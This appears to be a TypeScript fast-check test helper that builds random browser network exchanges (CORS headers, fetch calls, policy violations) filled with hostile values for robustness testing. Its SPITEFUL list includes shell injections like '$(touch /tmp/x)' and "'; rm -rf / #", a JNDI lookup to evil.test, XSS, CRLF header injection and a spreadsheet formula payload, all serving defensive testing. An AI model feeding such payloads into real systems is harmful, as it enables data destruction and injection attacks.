import fc from "fast-check";
import type { ElementRequest, PageCall, PageCallResult } from "../observation/page-call.ts";
import { anExchange, type ExchangeInit } from "./exchange.test-builder.ts";
import type { Exchange } from "./exchange.ts";

const HEADER_NAMES = [
  "Access-Control-Allow-Origin",
  "Access-Control-Allow-Credentials",
  "Access-Control-Allow-Methods",
  "Access-Control-Allow-Headers",
  "Location",
  "Vary",
  "Content-Type",
  "Set-Cookie",
  "Server",
];

/** Values that break code: markup, shell, control and bidirectional characters, near misses. */
const SPITEFUL = [
  "",
  "*",
  "null",
  "https://app.test",
  "https://app.test/",
  "http://app.test",
  "app.test",
  "true",
  "True",
  "```\n# owned\n",
  "` `` ``` ````",
  "| a | b |",
  "<script>alert(1)</script>",
  "![x](https://evil.test/)",
  "$(touch /tmp/x)",
  "'; rm -rf / #",
  "\\",
  "\r\nX-Evil: 1",
  "\u202egnp.exe",
  "\ud800",
  "a\u00ad\u{e0041}\u{e0042}\ufe0f\u180eb",
  "\x1b[2J\x9b31m",
  "=cmd|' /C calc'!A0",
  "\u0024{jndi:ldap://evil.test/a}",
  "`id`;$(id)#{exit}<%= 1 %>{{7*7}}",
  "\0",
  "%",
  "%zz",
  "-->",
  "https://[",
  "https://u:p@h/?token=abc",
  "data:text/html,x",
  "javascript:alert(1)",
  "//evil.test",
];

/** Text that breaks code, or any text. */
export const hostileValue = () =>
  fc.oneof(fc.constantFrom(...SPITEFUL), fc.string({ unit: "binary", maxLength: 40 }), fc.string());

const headers = () =>
  fc.array(
    fc.tuple(
      fc.oneof(fc.constantFrom(...HEADER_NAMES), fc.string({ maxLength: 10 })),
      hostileValue(),
    ),
    { maxLength: 6 },
  );

const response = () =>
  fc.option(
    fc.record({
      status: fc.constantFrom(0, 200, 204, 301, 302, 304, 401, 403, 404, 405, 500, 502),
      statusText: hostileValue(),
      headers: headers(),
      fromCache: fc.boolean(),
      ip: fc.option(fc.oneof(fc.constantFrom("1.2.3.4", "::1", "999.1.1.1"), fc.string())),
      rewrittenHeaders: fc.option(headers()),
    }),
  );

const url = () =>
  fc.oneof(
    fc.webUrl({ withQueryParameters: true, withFragments: false }),
    fc.constantFrom(
      "https://app.test/same",
      "https://api.test/?a=`|b",
      "http://[::1]:8080/x[y]?{z}|",
      "https://u:p@api.test/",
      "about:blank",
    ),
    fc.string().map((text) => {
      try {
        const { href } = new URL(text, "https://api.test/");
        return /^https?:/.test(href) ? href : "https://api.test/";
      } catch {
        return "https://api.test/";
      }
    }),
  );

const method = () => fc.constantFrom("GET", "POST", "PUT", "patch", "DELETE", "HEAD", "M`|x");

const ending = () =>
  fc.oneof(
    fc.constant({ kind: "pending" } as const),
    fc.constant({ kind: "completed" } as const),
    fc
      .constantFrom(
        "net::ERR_FAILED",
        "net::ERR_CONNECTION_REFUSED",
        "net::ERR_ABORTED",
        "NS_ERROR_DOM_BAD_URI",
        "net::ERR_BLOCKED_BY_CLIENT",
        "<b>|`",
      )
      .map((error) => ({ kind: "failed", error }) as const),
  );

const hop = () =>
  fc.record({
    url: url(),
    method: method(),
    requestHeaders: fc.option(headers()),
    response: response(),
    preflight: fc.option(fc.record({ response: response(), requestHeaders: fc.option(headers()) })),
  });

const call = () =>
  fc
    .record({
      api: fc.constantFrom("fetch", "xhr", "event-source", "beacon", "worker", "websocket"),
      url: url(),
      method: method(),
      mode: fc.option(fc.constantFrom("cors", "no-cors", "same-origin", "navigate")),
      credentials: fc.option(fc.constantFrom("omit", "same-origin", "include")),
      redirect: fc.option(fc.constantFrom("follow", "error", "manual")),
      onlyIfCached: fc.boolean(),
      hasIntegrity: fc.boolean(),
      served: fc.boolean(),
      headerNames: fc.array(hostileValue(), { maxLength: 3 }),
      body: fc.constantFrom("none", "plain", "stream"),
      uploadListener: fc.option(fc.boolean()),
      keepalive: fc.boolean(),
      targetAddressSpace: fc.option(fc.constantFrom("local", "loopback", "<b>")),
      stack: fc.option(hostileValue()),
    })
    .map((it) => it as PageCall);

const callResult = () =>
  fc
    .record({
      result: fc.constantFrom("resolved", "rejected", "thrown"),
      responseType: fc.option(fc.constantFrom("basic", "cors", "opaque", "opaqueredirect", "`|")),
      status: fc.option(fc.constantFrom(0, 200, 404)),
      errorName: fc.option(fc.constantFrom("TypeError", "AbortError", "TimeoutError", "<b>")),
    })
    .map((it) => it as PageCallResult);

const element = () =>
  fc
    .record({
      url: url(),
      resourceType: fc.constantFrom("image", "script", "other"),
      mode: fc.option(fc.constantFrom("cors", "no-cors", "same-origin")),
      credentials: fc.option(fc.constantFrom("same-origin", "include")),
      hasIntegrity: fc.boolean(),
      served: fc.boolean(),
      answered: fc.option(fc.constantFrom(0, 200, "none")),
    })
    .map((it) => it as ElementRequest);

const violation = () =>
  fc.record({
    effectiveDirective: fc.oneof(fc.constant("connect-src"), hostileValue()),
    blockedUrl: url(),
    disposition: fc.constant("enforce" as const),
  });

/** The fields that exchanges with and without a request share. */
const anybodys = {
  browser: fc.constantFrom("chromium" as const, "gecko" as const),
  initiatorOrigin: fc.option(fc.constantFrom("https://app.test", "null", "http://localhost:3000")),
  documentId: fc.option(fc.constantFrom("D1", "D2")),
  tabId: fc.constantFrom(-1, 7),
};

const requested = (): fc.Arbitrary<ExchangeInit> =>
  fc.record({
    ...anybodys,
    resourceType: fc.constantFrom(
      "xmlhttprequest",
      "image",
      "font",
      "main_frame",
      "websocket",
      "script",
    ),
    completeness: fc.constantFrom(
      "complete",
      "headless",
      "orphan-preflight",
      "interrupted",
      "partial",
      "preflight-unheard",
    ),
    ending: ending(),
    hops: fc.array(hop(), { minLength: 1, maxLength: 3 }),
  });

const NOT_SENT = { kind: "not-sent" } as const;

/** A call, an element or a policy violation without a request. */
const neverRequested = (): fc.Arbitrary<ExchangeInit> =>
  fc.oneof(
    fc.record({
      ...anybodys,
      ending: fc.constant(NOT_SENT),
      url: url(),
      method: method(),
      call: call(),
      callResult: callResult(),
      violation: fc.option(violation()),
      timedStatus: fc.option(fc.constantFrom(0, 200)),
      answeredByWorker: fc.option(fc.boolean()),
    }),
    fc.record({
      ...anybodys,
      ending: fc.constant(NOT_SENT),
      url: url(),
      element: element(),
      elementFailed: fc.constant(true),
      violation: fc.option(violation()),
    }),
    fc.record({ ...anybodys, ending: fc.constant(NOT_SENT), url: url(), violation: violation() }),
  );

/** The call or element of a request, as the probe reported it; most requests have neither. */
const reporter = (): fc.Arbitrary<ExchangeInit> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constant({}) },
    { weight: 1, arbitrary: fc.record({ call: call(), callResult: fc.option(callResult()) }) },
    { weight: 1, arbitrary: fc.record({ element: element(), elementFailed: fc.boolean() }) },
  );

/** An exchange of any kind with hostile values. */
export function hostileExchange(): fc.Arbitrary<Exchange> {
  return fc
    .oneof(
      { weight: 5, arbitrary: fc.tuple(requested(), reporter()) },
      { weight: 1, arbitrary: fc.tuple(neverRequested()) },
    )
    .map((parts) => anExchange(Object.assign({}, ...parts)));
}
